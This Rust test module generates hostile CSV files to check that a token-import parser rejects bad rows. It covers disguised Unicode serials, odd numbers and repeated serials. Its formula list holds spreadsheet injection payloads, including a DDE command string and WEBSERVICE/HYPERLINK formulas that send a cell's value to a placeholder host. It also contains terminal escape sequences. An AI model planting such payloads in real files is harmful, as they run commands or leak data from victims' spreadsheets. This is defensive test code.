//! Attacks on the cells of sound rows: formulas, characters in disguise, numbers that no code has, serials twice.

use tokenfleet_domain::catalogue::Reason;

use crate::hostile::{BASE32, HEX, Hostile};

/// What a spreadsheet would run.
const FORMULAS: [&str; 10] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"\"http://example.org/?x=\"\"&B2)",
    "=WEBSERVICE(\"\"http://example.org/\"\"&B2)",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=IMPORTXML(CONCAT(\"\"http://example.org/?\"\",B2),\"\"//a\"\")",
    "＝1+1",
    "=B2",
];

/// A file of three sound rows in which one cell of a fourth is another.
fn with_cell(column: usize, cell: &str) -> Vec<u8> {
    let mut row = ["HT000004", BASE32, "30", "6", "Maker"].map(|cell| format!("\"{cell}\""));
    row[column] = format!("\"{cell}\"");
    let sound = |serial: &str| format!("{serial},{BASE32},30,6,Maker\n");
    let header = "serial number,secret key,time interval,digits,manufacturer\n";
    let rows = [sound("HT000001"), sound("HT000002"), sound("HT000003")].concat();
    format!("{header}{rows}{}\n", row.join(",")).into_bytes()
}

/// Formulas in the cells that decide.
pub(crate) fn formulas() -> Vec<Hostile> {
    let cell = |column: usize, place: &str, why: &'static [Reason], formula: &'static str| {
        Hostile::problem(format!("{formula} as {place}"), why, 3, move || with_cell(column, formula))
    };
    let serial: &[Reason] = &[Reason::RowSerialInvalid, Reason::RowSerialAmount, Reason::RowSerialScientific];
    let secret: &[Reason] =
        &[Reason::SecretNotBase32, Reason::SecretSpreadsheet, Reason::SecretCutOff, Reason::SecretLength];
    let serials = FORMULAS.into_iter().map(|formula| cell(0, "a serial", serial, formula));
    let secrets = FORMULAS.into_iter().map(|formula| cell(1, "a secret", secret, formula));
    let intervals = FORMULAS.into_iter().map(|formula| cell(2, "an interval", &[Reason::RowPeriod], formula));
    let digits = FORMULAS.into_iter().map(|formula| cell(3, "digits", &[Reason::RowDigits], formula));
    serials.chain(secrets).chain(intervals).chain(digits).collect()
}

/// Serials that are not what a person would see, and texts that grow where they are brought into one form.
pub(crate) fn disguises() -> Vec<Hostile> {
    let mut files: Vec<_> = [
        ("turned around", "HT\u{202e}400000"),
        ("with an invisible blank", "HT0\u{200b}00004"),
        ("with a joiner", "HT0\u{200d}00004"),
        ("behind a mark", "\u{feff}HT000004"),
        ("with a bell", "HT0\u{7}00004"),
        ("that would colour a terminal", "\u{1b}[31mHT000004"),
        ("that would rename a terminal", "\u{1b}]0;x\u{7}HT000004"),
        ("with a backspace", "HT000005\u{8}4"),
        ("with a deletion", "HT0\u{7f}00004"),
        ("with a control of eight bits", "HT0\u{9b}31m4"),
        ("isolated", "HT\u{2066}000004\u{2069}"),
    ]
    .into_iter()
    .map(|(name, serial)| {
        Hostile::problem(format!("a serial {name}"), &[Reason::RowSerialInvalid], 3, move || with_cell(0, serial))
    })
    .collect();
    for (name, piece, count) in [
        ("marks on one letter", "\u{300}", 30_000),
        ("marks that want to be sorted", "\u{316}\u{300}", 15_000),
        ("characters that become eighteen", "\u{fdfa}", 20_000),
        ("letters that become three", "\u{fb03}", 20_000),
        ("parts of syllables", "\u{1100}\u{1161}\u{11a8}", 7_000),
        ("flags", "\u{1f1ef}\u{1f1f5}", 7_000),
    ] {
        files.push(Hostile::problem(format!("a serial of {name}"), &[Reason::RowSerialInvalid], 3, move || {
            with_cell(0, &format!("A{}", piece.repeat(count)))
        }));
        files.push(Hostile::problem(format!("a secret of {name}"), &[Reason::SecretNotBase32], 3, move || {
            with_cell(1, &format!("A{}", piece.repeat(count)))
        }));
        files.push(Hostile::refused(
            format!("a heading of {name}"),
            &[Reason::HeaderColumnMissing, Reason::FileFormatUnknown],
            move || format!("serial{},secret key\nHT1,{BASE32}\n", piece.repeat(count)).into_bytes(),
        ));
    }
    files
}

/// Numbers that no token has, and that a careless reader would cut, wrap or take for another.
pub(crate) fn numbers() -> Vec<Hostile> {
    const VALUES: [&str; 13] =
        ["0", "-1", "-6", "3", "4294967302", "18446744073709551622", "1e9", "6.5", "0x6", "６６", "٦", "NaN", "Ⅵ"];
    const VAST: [&str; 4] = ["340282366920938463463374607431768211462", "1e999", "-0", "+6"];
    let long = "6".repeat(60_000);
    let values: Vec<String> = VALUES.iter().chain(&VAST).map(|value| (*value).to_owned()).chain([long]).collect();
    let mut files = Vec::new();
    for value in values {
        let name: String = value.chars().take(40).collect();
        let (digits, period, counter) = (value.clone(), value.clone(), value);
        files.push(Hostile::problem(format!("{name} digits"), &[Reason::RowDigits], 3, move || with_cell(3, &digits)));
        // Digits of full width are what Japanese keyboards write, and 66 s a period.
        if !matches!(period.as_str(), "3" | "６６") {
            files.push(Hostile::problem(format!("{name} seconds"), &[Reason::RowPeriod], 3, move || {
                with_cell(2, &period)
            }));
        }
        if !matches!(counter.as_str(), "0" | "3" | "4294967302" | "６６") {
            files.push(Hostile::problem(format!("counter {name}"), &[Reason::RowCounter], 2, move || {
                format!(
                    "serial,secret key hex,type,counter\nH1,{HEX},hotp,0\nH2,{HEX},hotp,1\nH3,{HEX},hotp,{counter}\n"
                )
                .into_bytes()
            }));
        }
    }
    files
}

/// One serial with two secrets, however it is spelled the second time.
pub(crate) fn repeated() -> Vec<Hostile> {
    let spellings = [
        "HT000001",
        "ht000001",
        " HT000001 ",
        "ＨＴ０００００１",
        "HT 000001",
        "Ht000001",
        "\u{ff28}T000001",
        "HT00000\u{ff11}",
    ];
    let other = "MNQWIZJNOVYCA43FMVSCA53JORUCAMRQ";
    let twice = |serial: &'static str| {
        Hostile::problem(format!("again as {serial:?}"), &[Reason::RowSerialRepeated], 1, move || {
            let header = "serial number,secret key,time interval\n";
            format!("{header}HT000001,{BASE32},30\nHT000002,{BASE32},30\n{serial},{other},30\n").into_bytes()
        })
    };
    let mut files: Vec<_> = spellings.into_iter().map(twice).collect();
    files.push(Hostile::problem("10,000 times", &[Reason::RowSerialRepeated], 0, || {
        let row = |nth: usize| format!("HT000001,{nth:040x},totp,6,30\n");
        (0..10_000).map(row).collect::<String>().into_bytes()
    }));
    files.push(Hostile::problem("5,000 pairs", &[Reason::RowSerialRepeated], 0, || {
        let row = |nth: usize| format!("HT{:06},{nth:040x},totp,6,30\n", nth % 5_000);
        (0..10_000).map(row).collect::<String>().into_bytes()
    }));
    files
}
